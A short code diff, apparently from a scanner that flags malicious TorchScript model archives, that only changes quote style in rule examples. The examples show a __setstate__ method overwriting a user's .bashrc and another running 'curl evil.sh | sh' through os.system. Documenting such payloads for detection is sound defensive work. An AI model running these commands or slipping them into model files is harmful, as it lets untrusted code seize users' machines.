@@ -38,7 +38,7 @@ TORCHSCRIPT_CODE = Rule(
 
 _EXAMPLE_SETSTATE = (
     "```\ndef __setstate__(self: __torch__.Net, state: Tuple[Tensor, bool]) -> NoneType:\n"
-    "  self.weight = (state)[0]\n  torch.save(self.weight, \"/home/user/.bashrc\")\n```"
+    '  self.weight = (state)[0]\n  torch.save(self.weight, "/home/user/.bashrc")\n```'
 )
 TORCHSCRIPT_RUNS = Rule(
     id="TSC002",
@@ -54,7 +54,7 @@ TORCHSCRIPT_RUNS = Rule(
     remediation="Do not load the archive. Re-export the model from its source code with `torch.jit.script` "
     "or `torch.jit.trace`, or use a weights-only format.",
     example="```\ndef __setstate__(self: __torch__.Net, state: Tuple[Tensor, bool]) -> NoneType:\n"
-    "  getattr(torch.ops, \"os\").system(\"curl evil.sh | sh\")\n```",
+    '  getattr(torch.ops, "os").system("curl evil.sh | sh")\n```',
 )
 TORCHSCRIPT_ACCESS = Rule(
     id="TSC003",
